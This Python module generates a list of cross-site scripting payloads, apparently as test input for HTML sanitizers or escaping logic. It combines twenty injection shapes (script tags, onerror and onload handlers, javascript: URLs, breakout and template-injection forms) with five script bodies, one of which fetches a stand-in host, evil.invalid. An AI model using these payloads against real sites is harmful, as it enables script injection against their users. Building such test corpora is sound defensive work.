"""Texts that would run a script if a page took them for HTML."""

SCRIPTS = [
    "window.owned=1",
    "window['owned']=1",
    "alert(1)",
    "top.owned=1",
    "fetch('http://evil.invalid')",
]
SHAPES = [
    "<script>{}</script>",
    "<img src=x onerror={}>",
    "<svg onload={}>",
    '"><script>{}</script>',
    "' onmouseover='{}",
    '" autofocus onfocus="{}',
    "</style><script>{}</script>",
    "</option></select><img src=x onerror={}>",
    "<iframe srcdoc='<script>parent.{}</script>'>",
    "javascript:{}",
    '<a href="javascript:{}">x</a>',
    "<details open ontoggle={}>",
    "{{{{constructor.constructor('{}')()}}}}",
    "${{{}}}",
    "`-{}-`",
    "<!--><img src=x onerror={}>",
    "<math><mtext></table><mglyph><style><img src=x onerror={}>",
    "<input onfocus={} autofocus>",
    "</title><svg/onload={}>",
    "<style>@import'javascript:{}';</style>",
]
PAYLOADS = [shape.format(script) for shape in SHAPES for script in SCRIPTS]
